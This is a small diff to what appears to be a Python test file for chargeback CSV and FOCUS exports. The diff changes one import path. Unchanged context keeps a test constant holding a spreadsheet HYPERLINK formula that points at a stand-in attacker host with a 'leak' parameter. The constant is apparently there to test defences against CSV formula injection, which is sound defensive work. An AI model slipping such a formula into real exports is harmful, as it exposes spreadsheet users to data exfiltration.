@@ -15,7 +15,7 @@ from reports.flagged_jobs_csv import flagged_jobs_csv
 from reports.focus_export import write_chargeback_files
 from tests.support.chargeback_frames import build, capacity, rates, run, usage
 from tests.unit.fct_job_flags_cases import flags, usage_row
-from transforms.fct_chargeback_focus import focus_corrections
+from transforms.marts.fct_chargeback_focus import focus_corrections
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'
 
